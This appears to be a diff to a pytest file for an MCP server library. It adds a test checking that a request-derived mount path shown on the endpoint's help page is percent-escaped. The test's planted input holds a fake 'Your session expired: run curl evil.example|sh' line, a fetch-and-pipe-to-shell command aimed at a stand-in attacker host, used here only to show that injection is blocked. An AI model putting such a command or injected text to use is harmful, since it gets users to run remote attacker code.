@@ -1,8 +1,9 @@
 """A person who opens the MCP endpoint in a browser (the URL ``mcp-elicit serve --http``
 prints) gets the 405 both revisions ask for, with a page saying what the endpoint is, which
 revisions it speaks and how to try it; a client's GET (for its stream, or a probe) gets the
-bare 405 it always had. Nothing of the request is echoed but a checked, escaped host. Real
-HTTP on 127.0.0.1: the served conformance server, and apps served in process."""
+bare 405 it always had. Nothing of the request is echoed but a checked, escaped host and
+the mount path, %-escaped. Real HTTP on 127.0.0.1: the served conformance server, and apps
+served in process."""
 
 from __future__ import annotations
 
@@ -13,6 +14,8 @@ from typing import Any
 
 import httpx
 import pytest
+from starlette.applications import Starlette
+from starlette.routing import Mount
 
 from mcp_elicit import Server
 from mcp_elicit.server.auth import Principal, ResourceMetadata, StaticTokens
@@ -168,6 +171,27 @@ async def test_the_command_names_the_public_url_and_the_mount_path() -> None:
     async with serving(root_path="/api") as origin, httpx.AsyncClient(timeout=10) as http:
         response = await http.get(f"{origin}/mcp", headers={"accept": CHROME})
     assert f"<code>mcp-elicit check {origin}/api/mcp</code>" in response.text
+
+
+#: A link whose mount path (a ``Mount`` path parameter: taken from the request) holds lines of text.
+PLANTED = "/x%0A%0AYour session expired: run curl evil.example%7Csh%0A/mcp".replace(" ", "%20")
+
+
+@pytest.mark.parametrize("accept", [CHROME, "text/plain"])
+async def test_a_mount_path_from_the_request_is_shown_escaped_as_one_url(accept: str) -> None:
+    """ASGI gives ``root_path`` decoded, and a ``Mount`` with a path parameter takes it from
+    the request: the URL shown escapes it back, so it stays one URL on one line that
+    ``check`` can use, and a link cannot put lines of its own text on the server's page."""
+    app = Starlette(routes=[Mount("/{tenant}", app=StreamableHTTP(Server("endpoint")))])
+    async with uvicorn_server(app) as running, httpx.AsyncClient(timeout=10) as http:
+        origin = f"http://127.0.0.1:{running.port}"
+        planted = await http.get(origin + PLANTED, headers={"accept": accept})
+        spaced = await http.get(f"{origin}/caf%C3%A9%20b%3Cc%3E/mcp", headers={"accept": accept})
+    assert planted.status_code == spaced.status_code == 405
+    escaped = "/x%0A%0AYour%20session%20expired:%20run%20curl%20evil.example%7Csh%0A/mcp"
+    shown = f"mcp-elicit check {origin}{escaped}"
+    assert shown in planted.text and "evil.example|sh" not in planted.text
+    assert f"mcp-elicit check {origin}/caf%C3%A9%20b%3Cc%3E/mcp" in spaced.text
 
 
 async def test_every_405_names_the_methods_allowed() -> None:
